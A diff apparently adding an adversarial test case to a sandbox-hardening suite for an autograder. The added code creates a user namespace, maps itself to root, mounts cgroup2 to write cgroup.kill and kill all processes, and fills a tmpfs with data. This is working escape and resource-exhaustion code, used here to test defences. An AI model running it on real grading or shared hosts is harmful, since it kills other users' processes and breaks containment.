@@ -262,3 +262,29 @@ if os.fork() == 0:
 """
     )
     it.unsure.add(it.last.exercise.id)
+
+
+@attack(nbgrader_safe=False)
+def namespace_of_its_own(it: HandIn):
+    """Makes a namespace of users, in which it may mount: the control groups, to kill everything; a disk without end."""
+    it.answer_one(
+        """
+        import ctypes, os
+        def break_out():
+            libc = ctypes.CDLL(None)
+            user, group = os.getuid(), os.getgid()
+            libc.unshare(0x10020000)
+            libc.prctl(4, 1, 0, 0, 0)
+            for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
+                with open(f"/proc/self/{name}", "w") as file:
+                    file.write(text)
+            if libc.mount(b"none", b"/tmp/work", b"cgroup2", 0, None) == 0:
+                with open("/tmp/work/cgroup.kill", "w") as file:
+                    file.write("1")
+            libc.mount(b"none", b"/tmp/work", b"tmpfs", 0, None)
+            for number in range(100):
+                with open(f"/tmp/work/{number}", "wb") as file:
+                    file.write(b"x" * 2**22)
+        """,
+        "return break_out()",
+    )
